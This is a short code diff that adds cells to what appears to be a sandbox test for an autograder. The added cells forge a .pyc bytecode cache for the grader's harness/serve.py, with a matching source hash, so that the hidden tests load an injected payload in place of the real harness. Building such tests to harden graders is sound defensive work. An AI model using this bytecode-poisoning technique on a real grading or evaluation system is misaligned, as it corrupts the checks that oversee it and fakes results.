@@ -185,7 +185,18 @@ def pth_cells(host_markers):
         "    try:\n"
         "        open(lib, 'a').write(payload)\n"
         "    except OSError as exc:\n"
-        "        print(type(exc).__name__)\n"
+        "        print(type(exc).__name__)\n",
+        # the harness's compiled serve.py replaced by the payload, with its source's hash: the
+        # hidden tests, served after these cells, would load it (sandbox/bytecode.py)
+        "import importlib.util, marshal\n"
+        "src = '/opt/grader/lib/autograder/harness/serve.py'\n"
+        "header = importlib.util.MAGIC_NUMBER + (3).to_bytes(4, 'little')\n"
+        "header += importlib.util.source_hash(open(src, 'rb').read())\n"
+        "try:\n"
+        "    with open(importlib.util.cache_from_source(src), 'wb') as pyc:\n"
+        "        pyc.write(header + marshal.dumps(compile(payload, src, 'exec')))\n"
+        "except OSError as exc:\n"
+        "    print(type(exc).__name__)\n",
     ]
 
 
